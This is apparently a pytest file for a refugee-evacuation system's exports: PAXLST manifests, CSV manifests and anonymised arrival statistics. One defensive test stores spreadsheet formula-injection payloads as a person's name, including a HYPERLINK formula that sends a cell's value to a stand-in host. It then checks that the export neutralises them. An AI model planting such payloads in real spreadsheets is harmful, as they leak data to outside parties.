"""Exports of stored flights and arrivals, on SQLite and PostgreSQL: the PAXLST message of a
stored flight parses back (with pydifact) to the people on its manifest, manifests keep formulas
inert, every export carrying people is audited, and the arrival statistics carry no personal
data at all."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable

import pytest
from pydifact.parser import Parser
from tests.exchange.builders import lettered_flight
from tests.gate.building import NOW, PROGRAM, build

from refuge.arrival import Site, SiteKind, add_site, arrive_flight
from refuge.domain import Case, Household, ManifestEntry, Person, PersonName, Sex, Stage
from refuge.exchange import (
    ManifestFormat,
    ManifestIncomplete,
    export_manifest,
    export_paxlst,
    export_statistics,
    read_paxlst,
)
from refuge.gate import board, check_in
from refuge.store import SqlUnitOfWork

UowFactory = Callable[[], SqlUnitOfWork]
LANDED = NOW + dt.timedelta(hours=12)


# pydifact warns that its wheel lacks the syntax tables to check service segments against.
@pytest.mark.filterwarnings("ignore::pydifact.exceptions.MissingImplementationWarning")
def test_the_paxlst_of_a_stored_flight_parses_back_to_its_passengers(
    uow_factory: UowFactory,
) -> None:
    households = lettered_flight(uow_factory, 3)

    text, count = export_paxlst(
        uow_factory(), "RCH101", sender="REFUGE", recipient="DOHAPI", actor="ops-1", now=NOW
    )

    people = [m.person for h in households.values() for m in h.members]
    read = read_paxlst(text, today=NOW.date())
    assert count == len(read.passengers) == 6
    assert sorted(
        (p.family_name, p.given_names, p.sex, p.date_of_birth, p.nationality, p.document)
        for p in read.passengers
    ) == sorted(
        (
            p.name.family.upper(),
            p.name.given.upper(),
            p.sex,
            dt.date(
                p.date_of_birth.year or 0, p.date_of_birth.month or 1, p.date_of_birth.day or 1
            ),
            p.nationalities[0],
            p.documents[0],
        )
        for p in people
    )
    with uow_factory() as uow:
        entries = uow.manifests.for_flight(uow.flights.get("RCH101").id)
        audited = [e for e in uow.audit.events() if e.action == "exchange.paxlst"]
    assert {p.entry_id for p in read.passengers} == {e.id for e in entries}
    names = [s for s in Parser().parse(text) if s.tag == "NAD"]
    assert sorted(s.elements[3][0] for s in names) == sorted(p.name.family.upper() for p in people)
    assert [(e.actor, e.object_id, e.details["passengers"]) for e in audited] == [
        ("ops-1", "RCH101", 6)
    ]


def test_a_passenger_the_message_cannot_carry_is_named_by_entry_and_field(
    uow_factory: UowFactory,
) -> None:
    lettered_flight(uow_factory, 1)
    with uow_factory() as uow:
        flight = uow.flights.get("RCH101")
    nameless = Household.of(Person(PersonName("Ghulam", "Testzai"), sex=Sex.MALE))
    with uow_factory() as uow:
        uow.households.add(nameless)
        case = Case(uow.cases.next_number(), nameless.id, PROGRAM.code, "aid-kabul")
        for stage in (Stage.REGISTERED, Stage.ELIGIBLE, Stage.VETTING_CLEARED, Stage.APPROVED):
            case.move_to(stage, actor="c", at=NOW)
        uow.cases.add(case)
        entry = ManifestEntry(flight.id, case.id, nameless.id, nameless.members[0].person.id)
        uow.manifests.add(entry)
        uow.commit()

    with pytest.raises(ManifestIncomplete) as refused:
        export_paxlst(uow_factory(), "RCH101", sender="R", recipient="D", actor="o", now=NOW)

    assert {(e, field) for e, field, _ in refused.value.missing} == {
        (entry.id, "date_of_birth"),
        (entry.id, "nationality"),
        (entry.id, "document"),
    }
    assert "Testzai" not in str(refused.value)


def test_a_stored_name_that_looks_like_a_formula_stays_text_in_the_manifest(
    uow_factory: UowFactory,
) -> None:
    boarding = build(uow_factory, {"RCH101": 0})
    flight = boarding.flights["RCH101"]
    payload = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
    risky = Household.of(Person(PersonName("@SUM(1+1)", payload), sex=Sex.FEMALE))
    with uow_factory() as uow:
        uow.households.add(risky)
        case = Case(uow.cases.next_number(), risky.id, PROGRAM.code, "aid-kabul")
        uow.cases.add(case)
        uow.manifests.add(ManifestEntry(flight.id, case.id, risky.id, risky.members[0].person.id))
        uow.commit()

    data, count = export_manifest(uow_factory(), "RCH101", ManifestFormat.CSV, actor="o", now=NOW)

    (row,) = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert count == 1
    assert row["family_name"] == "'" + payload
    assert row["given_names"] == "'@SUM(1+1)"


def test_arrival_statistics_count_people_without_any_of_their_data(
    uow_factory: UowFactory,
) -> None:
    boarding = build(uow_factory, {"RCH101": 6})
    with uow_factory() as uow:
        entries = uow.manifests.for_flight(boarding.flights["RCH101"].id)
    for entry in entries:
        for step in (check_in, board):
            step(uow_factory(), entry.id, flight_code="RCH101", gate_agent="g", now=NOW)
    add_site(uow_factory(), Site("doha-1", "Hangar", SiteKind.TRANSIT, 500), actor="c", now=NOW)
    arrive_flight(uow_factory(), "RCH101", site="doha-1", officer="r", now=LANDED)

    exported = export_statistics(uow_factory(), actor="analyst-1", now=LANDED, threshold=5)

    text = exported.data.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert exported.people == 12
    assert rows[1][:3] == ["#date", "#meta+program", "#loc+name"]
    assert rows[2] == [LANDED.date().isoformat(), "siv", "doha-1", "12", "12"]
    personal = set()
    for household in boarding.households.values():
        for member in household.members:
            person = member.person
            personal |= {person.name.given, person.name.family, person.documents[0].number}
            personal.add(person.date_of_birth.iso())
    for value in personal:
        assert value not in text
        assert value.upper() not in text
    for entry in entries:
        assert str(entry.id) not in text
        assert str(entry.household_id) not in text
    assert "case" not in text.lower()


def test_small_counts_in_the_statistics_are_suppressed_below_the_threshold(
    uow_factory: UowFactory,
) -> None:
    boarding = build(uow_factory, {"RCH101": 1})
    with uow_factory() as uow:
        entries = uow.manifests.for_flight(boarding.flights["RCH101"].id)
    for entry in entries:
        for step in (check_in, board):
            step(uow_factory(), entry.id, flight_code="RCH101", gate_agent="g", now=NOW)
    add_site(uow_factory(), Site("doha-1", "Hangar", SiteKind.TRANSIT, 500), actor="c", now=NOW)
    arrive_flight(uow_factory(), "RCH101", site="doha-1", officer="r", now=LANDED)

    exported = export_statistics(uow_factory(), actor="analyst-1", now=LANDED, threshold=5)

    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8"))))
    assert rows[2][3:] == ["<5", "<5"]
    assert rows[3][3:] == ["<5", "<5"]
    assert "2" not in "".join(rows[2][3:] + rows[3][3:])
